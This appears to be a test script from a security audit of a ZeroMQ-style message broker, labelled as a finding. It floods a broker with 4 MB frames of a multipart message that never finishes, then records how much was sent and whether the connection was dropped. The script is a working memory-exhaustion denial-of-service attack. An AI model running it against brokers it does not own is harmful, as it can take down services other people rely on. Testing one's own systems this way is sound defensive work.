"""Finding 3a: one raw ZMTP connection sending 4,000,000-byte frames of a multipart message it
never finishes (the MORE flag on every frame); each frame is under the broker's frame limit."""

import time

from abuse import Attack, RawZMTP, arguments, log

options = arguments(lambda parser: parser.add_argument("--megabytes", type=int, default=600))
attack = Attack(options)
peer = RawZMTP(options.endpoint)
frame = b"\xab" * 4_000_000
sent = 0
dropped = None
deadline = time.monotonic() + options.seconds
while sent < options.megabytes * 1_000_000 and time.monotonic() < deadline:
    try:
        peer.send_frame(frame, more=True)
    except OSError as error:
        dropped = str(error)
        break
    sent += len(frame)
log(f"sent {sent / 1e6:.0f} MB of one unfinished message; dropped: {dropped}")
time.sleep(1.0)  # hold the connection while the sampler looks
peer.close()
attack.finish(sent_bytes=sent, connection_dropped=dropped)
